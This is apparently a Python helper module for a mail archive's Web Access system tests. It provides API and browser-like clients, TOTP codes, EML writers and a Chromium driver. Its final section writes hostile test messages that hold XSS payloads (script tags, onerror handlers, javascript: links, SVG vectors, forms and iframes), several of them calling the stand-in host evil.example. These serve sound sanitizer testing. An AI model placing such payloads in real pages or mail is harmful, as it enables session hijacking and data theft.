"""Helpers shared by the Web Access system tests (test_web_access.py over
HTTP, test_web_browser.py in Chromium); stdlib only.

  Api          the Administration API as any user (form fields, JSON args)
  WebClient    one browser-like client of /web/api: its session cookie, its
               CSRF token, every header of every answer kept
  Totp         RFC 6238 codes (SHA-1, 6 digits, 30 s) that the server will
               take: each one for a later time step than the last
  write_eml    small generated messages for the users' archives
  npm_ci / chromium_path / BrowserDriver
               the Node side of the browser tests (tests/web/run.mjs)
"""

import base64
import email.utils
import fcntl
import hashlib
import hmac
import http.client
import json
import os
import queue
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

from mvtest import REPO_ROOT

COOKIE = "__Host-mvsession"
WEB_DIR = os.path.join(REPO_ROOT, "tests", "web")
CHROMIUM = "/usr/bin/chromium"


# ---- the Administration API ---------------------------------------------------------------

class Api:
    """Calls Administration API functions as any user.  Every keyword is
    sent as a form field (so CreateUser's own `password` argument works);
    dicts and lists are sent as JSON."""

    def __init__(self, srv, admin_pw):
        self.srv = srv
        self.admin_pw = admin_pw

    def invoke(self, function, user="admin", pw=None, **fields):
        fields = {k: (("true" if v else "false") if isinstance(v, bool) else
                      json.dumps(v) if isinstance(v, (dict, list)) else v) for k, v in fields.items()}
        pw = self.admin_pw if pw is None and user == "admin" else pw
        status, env = self.srv.request("/api/invoke/" + function, fields, user=user, password=pw)
        deadline = time.time() + 300
        while status == 200 and isinstance(env, dict) and env.get("statusCode") == "running":
            assert time.time() < deadline, (function, env)
            status, env = self.srv.request("/api/get-status", {"token": env["token"],
                                                               "lastKnownStatusVersion": env["statusVersion"],
                                                               "millisecondsTimeout": 5000}, user=user, password=pw)
        return status, env

    def ok(self, function, user="admin", pw=None, **fields):
        status, env = self.invoke(function, user, pw, **fields)
        assert status == 200 and isinstance(env, dict) and env["statusCode"] == "succeeded" and env["error"] is None, \
            "expected %s (as %s, %r) to succeed; got HTTP %s: %r" % (function, user, fields, status, env)
        return env["result"]

    def create_user(self, name, password, privileges="login,changePassword", login="web,api,imap", folders=()):
        self.ok("CreateUser", userName=name, privileges=privileges, loginPrivileges=login, password=password)
        for folder in folders:
            self.ok("SetUserPrivilegesOnFolder", userName=name, folder=folder, privileges="read")

    def audit(self):
        """The whole audit log, oldest first."""
        return self.ok("GetAuditLog", limit=100000)

    def audit_since(self, seq):
        return [e for e in self.audit() if e["seq"] > seq]

    def last_seq(self):
        entries = self.audit()
        return entries[-1]["seq"] if entries else 0

    def set_compliance(self, **changes):
        """Changes some keys of the compliance configuration (sends the
        whole object, as SetComplianceConfiguration takes it); returns the
        configuration before."""
        before = self.ok("GetComplianceConfiguration")
        config = dict(before)
        config.update(changes)
        self.ok("SetComplianceConfiguration", config=json.dumps(config))
        return before


# ---- the web client -------------------------------------------------------------------------

class Response:
    def __init__(self, status, headers, body, seconds):
        self.status = status
        self.headers = headers          # list of (name, value), as sent
        self.body = body
        self.seconds = seconds

    def header(self, name):
        values = self.all(name)
        return values[0] if values else None

    def all(self, name):
        return [v for k, v in self.headers if k.lower() == name.lower()]

    def json(self):
        try:
            return json.loads(self.body.decode("utf-8"))
        except (UnicodeDecodeError, ValueError):
            raise AssertionError("expected a JSON answer, got HTTP %d %r" % (self.status, self.body[:300]))

    def error_code(self):
        data = self.json()
        assert isinstance(data, dict) and "error" in data, "expected an error answer, got HTTP %d %r" % (
            self.status, data)
        return data["error"]["code"]

    def __repr__(self):
        return "<HTTP %d %s %r>" % (self.status, self.header("Content-Type"), self.body[:300])


def parse_set_cookie(value):
    """'name=value; Attr; Attr=x' -> (name, value, {attr lower: value or True})."""
    parts = [p.strip() for p in value.split(";")]
    name, _, val = parts[0].partition("=")
    attrs = {}
    for p in parts[1:]:
        k, eq, v = p.partition("=")
        attrs[k.strip().lower()] = v.strip() if eq else True
    return name.strip(), val.strip(), attrs


class WebClient:
    """A client of Web Access that behaves like the page: keeps the session
    cookie the server sets and the CSRF token of the last login answer, and
    sends X-Requested-With and X-CSRF-Token with every POST (unless told
    not to)."""

    def __init__(self, srv):
        u = urllib.parse.urlsplit(srv.web_url)
        self.host, self.port = u.hostname, u.port
        self.origin = srv.web_url
        self.ctx = srv.ssl_context()
        self.cookie = None
        self.csrf = None

    def request(self, method, path, body=None, headers=None, cookie="keep", timeout=120):
        """One request on a fresh connection; never raises for HTTP errors.
        cookie: "keep" sends the client's cookie, None sends none, a string
        sends that value."""
        conn = http.client.HTTPSConnection(self.host, self.port, context=self.ctx, timeout=timeout)
        hdrs = dict(headers or {})
        value = self.cookie if cookie == "keep" else cookie
        if value is not None and not any(k.lower() == "cookie" for k in hdrs):
            hdrs["Cookie"] = "%s=%s" % (COOKIE, value)
        t0 = time.monotonic()
        try:
            conn.putrequest(method, path, skip_accept_encoding=True)
            for k, v in hdrs.items():
                conn.putheader(k, v)
            if body is not None:
                conn.putheader("Content-Length", str(len(body)))
            conn.endheaders(body)
            resp = conn.getresponse()
            data = resp.read()
            r = Response(resp.status, resp.getheaders(), data, time.monotonic() - t0)
        finally:
            conn.close()
        for sc in r.all("Set-Cookie"):
            name, val, attrs = parse_set_cookie(sc)
            if name == COOKIE and cookie == "keep":
                self.cookie = None if attrs.get("max-age") == "0" or not val else val
        return r

    def get(self, path, **kw):
        return self.request("GET", path, **kw)

    def post(self, path, fields=None, xrw=True, csrf="keep", origin=None, headers=None, **kw):
        """A POST as the page sends it.  csrf: "keep" sends the client's
        token (when it has one), None sends none, a string sends that."""
        hdrs = {"Content-Type": "application/x-www-form-urlencoded; charset=utf-8"}
        if xrw:
            hdrs["X-Requested-With"] = "mailvault"
        token = self.csrf if csrf == "keep" else csrf
        if token:
            hdrs["X-CSRF-Token"] = token
        if origin:
            hdrs["Origin"] = origin
        hdrs.update(headers or {})
        r = self.request("POST", path, urllib.parse.urlencode(fields or {}).encode(), headers=hdrs, **kw)
        if r.status == 200 and r.header("Content-Type").startswith("application/json"):
            data = r.json()
            if isinstance(data, dict) and isinstance(data.get("csrfToken"), str):
                self.csrf = data["csrfToken"]
        return r

    # the login steps -----------------------------------------------------------------------
    def login(self, user, password):
        return self.post("/web/api/login", {"userName": user, "password": password})

    def login_ok(self, user, password, stage="authenticated"):
        r = self.login(user, password)
        assert r.status == 200 and r.json().get("stage") == stage, \
            "expected the login of %s to answer stage %s, got %r" % (user, stage, r)
        return r

    def session(self):
        r = self.get("/web/api/session")
        assert r.status == 200, r
        return r.json()

    def call(self, path, **fields):
        """POST /web/api/PATH that must succeed; returns its JSON."""
        r = self.post("/web/api/" + path, fields)
        assert r.status == 200, "expected POST /web/api/%s %r to succeed, got %r" % (path, fields, r)
        return r.json()

    def logout(self):
        return self.post("/web/api/logout")


# ---- TOTP -----------------------------------------------------------------------------------

def totp(secret_b32, step):
    """RFC 6238 / 4226: HMAC-SHA-1, 6 digits, for one time step."""
    s = re.sub(r"\s+", "", secret_b32).upper()
    key = base64.b32decode(s + "=" * (-len(s) % 8))
    digest = hmac.new(key, struct.pack(">Q", step), hashlib.sha1).digest()
    o = digest[-1] & 0x0F
    return "%06d" % ((struct.unpack(">I", digest[o:o + 4])[0] & 0x7FFFFFFF) % 1000000)


class Totp:
    """Codes the server accepts: within one step of now (its window), each
    for a later step than the one before (it takes a step once).  Waits
    when the next usable step has not come yet, and keeps away from the
    last seconds of a step so the server sees the same step."""

    STEP = 30

    def __init__(self, secret):
        self.secret = secret
        self.last = None

    def step_now(self):
        return int(time.time() // self.STEP)

    def code(self):
        while True:
            now = time.time()
            cur = int(now // self.STEP)
            into = now - cur * self.STEP
            step = cur - 1 if self.last is None else max(self.last + 1, cur - 1)
            if into < self.STEP - 3 and step <= cur + 1:
                self.last = step
                return totp(self.secret, step)
            time.sleep(self.STEP - into + 0.3)

    def replay(self):
        """The code of the last accepted step (the server must refuse it)."""
        return totp(self.secret, self.last)

    def wrong(self):
        """A well-formed code that matches no step near now."""
        cur = self.step_now()
        good = {totp(self.secret, s) for s in range(cur - 3, cur + 4)}
        for n in range(1000000):
            c = "%06d" % ((n * 7919 + 123457) % 1000000)
            if c not in good:
                return c


# ---- messages -------------------------------------------------------------------------------

def write_eml(path, subject, body, sender="Sender <sender@example.net>", to="user@example.com", date=None,
              message_id=None, extra_headers=(), content_type="text/plain; charset=utf-8", raw_body=None):
    """Writes one RFC 5322 message (CRLF); returns its bytes."""
    date = date or email.utils.formatdate(1700000000, usegmt=True)
    mid = message_id or "<%s@example.com>" % hashlib.sha1((subject + body).encode()).hexdigest()[:16]
    lines = ["From: " + sender, "To: " + to, "Subject: " + subject, "Date: " + date, "Message-ID: " + mid,
             "MIME-Version: 1.0"] + list(extra_headers)
    if content_type:
        lines.append("Content-Type: " + content_type)
    raw = ("\r\n".join(lines) + "\r\n\r\n").encode() + (raw_body if raw_body is not None else
                                                       body.replace("\r\n", "\n").replace("\n", "\r\n").encode())
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(raw)
    return raw


def sha256(data):
    return hashlib.sha256(data).hexdigest()


# ---- the Node side --------------------------------------------------------------------------

def chromium_path():
    """Debian's Chromium; missing is a failure (make test installs it)."""
    import pytest
    if not (os.path.isfile(CHROMIUM) and os.access(CHROMIUM, os.X_OK)):
        pytest.fail("%s is missing: the Web Access browser tests need Debian's chromium package "
                    "(`tools/deps.sh test` installs it)" % CHROMIUM, pytrace=False)
    return CHROMIUM


def _node_modules_complete():
    try:
        with open(os.path.join(WEB_DIR, "package-lock.json")) as f:
            lock = json.load(f)
    except (OSError, ValueError):
        return False
    for path, meta in lock.get("packages", {}).items():
        if not path:
            continue
        try:
            with open(os.path.join(WEB_DIR, path, "package.json")) as f:
                if json.load(f).get("version") != meta.get("version"):
                    return False
        except (OSError, ValueError):
            return False
    return True


def npm_ci():
    """`npm ci` in tests/web once (a file lock keeps two workers apart);
    node_modules that already match the lock file are reused."""
    import pytest
    for tool in ("node", "npm"):
        if not shutil.which(tool):
            pytest.fail("%s is missing: the Web Access browser tests need Node.js and npm" % tool, pytrace=False)
    with open(os.path.join(tempfile.gettempdir(), "mailvault-web-npm.lock"), "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if _node_modules_complete():
            return
        env = dict(os.environ, PLAYWRIGHT_SKIP_BROWSER_DOWNLOAD="1", npm_config_update_notifier="false")
        cp = subprocess.run(["npm", "ci", "--no-audit", "--no-fund"], cwd=WEB_DIR, capture_output=True,
                            timeout=600, env=env)
        if cp.returncode != 0 or not _node_modules_complete():
            pytest.fail("`npm ci` in %s failed (exit %d):\n%s\n%s" % (
                WEB_DIR, cp.returncode, cp.stdout.decode(errors="replace")[-2000:],
                cp.stderr.decode(errors="replace")[-4000:]), pytrace=False)


def artifacts_dir():
    """Where screenshots go: $MAILVAULT_TEST_ARTIFACTS, else
    build-asan/test-artifacts/web when build-asan exists, else a new
    temporary directory (printed)."""
    d = os.environ.get("MAILVAULT_TEST_ARTIFACTS")
    if not d and os.path.isdir(os.path.join(REPO_ROOT, "build-asan")):
        d = os.path.join(REPO_ROOT, "build-asan", "test-artifacts", "web")
    if not d:
        d = tempfile.mkdtemp(prefix="mailvault-web-artifacts-")
    os.makedirs(d, exist_ok=True)
    print("Web Access screenshots: %s" % d, file=sys.stderr)
    return d


class BrowserDriver:
    """One `node tests/web/run.mjs` for a test module: it starts Chromium
    once and runs scenarios sent as JSON lines on its stdin, one at a time.
    While a scenario runs it may ask Python something (a TOTP code, an API
    check) with an {"ask": ...} line; the handler's answer goes back as one
    JSON line.  The scenario ends with a {"done": ...} line: its results."""

    def __init__(self, artifacts, env=None):
        self.artifacts = artifacts
        self.log_path = os.path.join(artifacts, "node.log")
        self._log = open(self.log_path, "ab")
        self.proc = subprocess.Popen(["node", os.path.join(WEB_DIR, "run.mjs")], cwd=WEB_DIR,
                                     stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=self._log,
                                     env=dict(os.environ, **(env or {})))
        self.lines = queue.Queue()
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()
        hello = self._next(120)
        assert hello.get("ready"), "run.mjs did not start Chromium: %r\n%s" % (hello, self.log_tail())

    def _read(self):
        for line in self.proc.stdout:
            self.lines.put(line)
        self.lines.put(None)

    def log_tail(self, n=6000):
        self._log.flush()
        try:
            with open(self.log_path, "rb") as f:
                return f.read().decode("utf-8", "replace")[-n:]
        except OSError:
            return ""

    def _next(self, timeout):
        deadline = time.time() + timeout
        while True:
            try:
                line = self.lines.get(timeout=max(0.1, deadline - time.time()))
            except queue.Empty:
                raise AssertionError("run.mjs said nothing for %ds\n%s" % (timeout, self.log_tail()))
            if line is None:
                raise AssertionError("run.mjs ended (exit %s)\n%s" % (self.proc.wait(), self.log_tail()))
            text = line.decode("utf-8", "replace").strip()
            if not text.startswith("{"):
                continue            # not ours
            return json.loads(text)

    def _send(self, obj):
        self.proc.stdin.write((json.dumps(obj) + "\n").encode())
        self.proc.stdin.flush()

    def run(self, scenario, handler=None, timeout=240):
        """Runs one scenario; returns its results (a dict)."""
        self._send({"scenario": scenario})
        deadline = time.time() + timeout
        while True:
            msg = self._next(max(1, deadline - time.time()))
            if "ask" in msg:
                try:
                    answer = {"answer": handler(msg["ask"]) if handler else None}
                except Exception as e:  # noqa: BLE001 -- reported to the scenario, which fails with it
                    answer = {"error": "%s: %s" % (type(e).__name__, e)}
                self._send(answer)
            elif "done" in msg:
                return msg["done"]
            elif "fatal" in msg:
                raise AssertionError("run.mjs failed: %s\n%s" % (msg["fatal"], self.log_tail()))

    def close(self):
        if self.proc.poll() is None:
            try:
                self._send({"quit": True})
                self.proc.stdin.close()
                self.proc.wait(timeout=60)
            except (OSError, subprocess.TimeoutExpired):
                self.proc.kill()
                self.proc.wait()
        self._log.close()


# ---- hostile mail ---------------------------------------------------------------------------

EVIL = "evil.example"

# name -> (subject, HTML body).  Every script-ish payload would set
# window.top.__pwned (the canary) as well as open a dialog.
HOSTILE_HTML = {
    "script": ("Hostile script tag",
               "<p>Script below.</p><script>window.top.__pwned='script';alert(1)</script>"
               "<script src=\"http://evil.example/x.js\"></script>"),
    "img-onerror": ("Hostile img onerror",
                    "<p>Broken image:</p><img src=x onerror=\"window.top.__pwned='img';alert(2)\">"),
    "js-link": ("Hostile javascript link",
                "<p><a href=\"javascript:window.top.__pwned='jslink';alert(3)\">click me</a> "
                "<a href=\"JaVaScRiPt&#58;alert(3)\">entity</a> "
                "<a href=\"data:text/html,&lt;script&gt;alert(3)&lt;/script&gt;\">data link</a> "
                "<a href=\"vbscript:msgbox(3)\">vb</a></p>"),
    "body-onload": ("Hostile body onload",
                    "<html><body onload=\"window.top.__pwned='onload';alert(4)\"><p>onload body</p></body></html>"),
    "css-expression": ("Hostile CSS expression and behavior",
                       "<style>p{behavior:url(http://evil.example/x.htc);width:expression(alert(5))}</style>"
                       "<p style=\"width: expression(window.top.__pwned='expr'); behavior: url(#default#x); "
                       "-moz-binding: url(http://evil.example/x.xml#x)\">CSS tricks</p>"),
    "css-import": ("Hostile style import",
                   "<style>@import url(http://evil.example/x.css); @import 'http://evil.example/y.css';</style>"
                   "<p>imported style</p>"),
    "meta-refresh": ("Hostile meta refresh",
                     "<html><head><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\"></head>"
                     "<body><p>refresh</p></body></html>"),
    "svg": ("Hostile SVG",
            "<svg><script>window.top.__pwned='svgscript';alert(5)</script></svg>"
            "<svg onload=\"window.top.__pwned='svgonload';alert(6)\"><circle r=\"5\"></circle></svg>"
            "<svg><a xlink:href=\"javascript:alert(6)\"><text y=\"20\">svg link</text></a></svg>"
            "<math><mtext><img src=x onerror=\"window.top.__pwned='math'\"></mtext></math>"),
    "remote-images": ("Hostile remote images",
                      "<p>Tracking pixel:</p><img src=\"http://evil.example/track.png\" width=\"1\" height=\"1\">"
                      "<div style=\"background-image:url(http://evil.example/bg.png);height:20px\">bg</div>"
                      "<table background=\"http://evil.example/table.png\"><tr><td>cell</td></tr></table>"
                      "<img src=x onerror=\"window.top.__pwned='remote';alert(7)\">"),
    "form": ("Hostile form",
             "<form action=\"http://evil.example/\" method=\"post\"><input name=\"a\" value=\"secret\">"
             "<button type=\"submit\" id=\"evil-submit\">Submit</button></form>"
             "<form><button formaction=\"http://evil.example/f\">Other</button></form>"),
    "embeds": ("Hostile iframe object embed",
               "<iframe src=\"http://evil.example/\"></iframe><object data=\"http://evil.example/x.swf\"></object>"
               "<embed src=\"http://evil.example/e.swf\"><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">"
               "</iframe><p>embeds</p>"),
    "base": ("Hostile base href",
             "<html><head><base href=\"http://evil.example/\"></head><body>"
             "<a href=\"relative.html\">relative link</a><img src=\"relative.png\"></body></html>"),
}

HOSTILE_TEXT_BODY = ("A plain text message with javascript:window.top.__pwned='text';alert(1) in it,\n"
                     "<script>alert(1)</script> and a link https://example.org/page.\n")
HOSTILE_SUBJECT = "<img src=x onerror=\"window.top.__pwned='subject';alert(7)\"> subject"
HOSTILE_SENDER_NAME = "<img src=x onerror=alert(7)>"
HOSTILE_ATTACHMENT = "<img src=x onerror=alert(8)>.html"
HOSTILE_ATTACHMENT_BODY = ("<html><body><script>window.top.__pwned='attachment';alert(8)</script>"
                           "<img src=x onerror=alert(8)></body></html>")


def write_hostile_messages(directory):
    """Writes the hostile messages as EML files; returns [(name, subject)]
    in the order of their files (and of their dates: the first is oldest)."""
    out = []
    n = 0

    def date():
        return email.utils.formatdate(1700000000 + 3600 * n, usegmt=True)

    for name, (subject, html) in HOSTILE_HTML.items():
        n += 1
        write_eml(os.path.join(directory, "%02d-%s.eml" % (n, name)), subject, html, date=date(),
                  content_type="text/html; charset=utf-8")
        out.append((name, subject))
    n += 1
    write_eml(os.path.join(directory, "%02d-text.eml" % n), "Hostile plain text", HOSTILE_TEXT_BODY, date=date())
    out.append(("text", "Hostile plain text"))
    n += 1
    write_eml(os.path.join(directory, "%02d-subject.eml" % n), HOSTILE_SUBJECT, "The subject and sender are hostile.\n",
              sender='"%s" <evil@example.net>' % HOSTILE_SENDER_NAME, date=date())
    out.append(("subject", HOSTILE_SUBJECT))
    n += 1
    boundary = "mvboundary42"
    body = ("--%s\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee the attachment.\r\n"
            "--%s\r\nContent-Type: text/html; charset=utf-8; name=\"%s\"\r\n"
            "Content-Disposition: attachment; filename=\"%s\"\r\n\r\n%s\r\n--%s--\r\n"
            % (boundary, boundary, HOSTILE_ATTACHMENT, HOSTILE_ATTACHMENT, HOSTILE_ATTACHMENT_BODY, boundary))
    write_eml(os.path.join(directory, "%02d-attachment.eml" % n), "Hostile attachment", "", date=date(),
              content_type="multipart/mixed; boundary=\"%s\"" % boundary, raw_body=body.encode())
    out.append(("attachment", "Hostile attachment"))
    return out
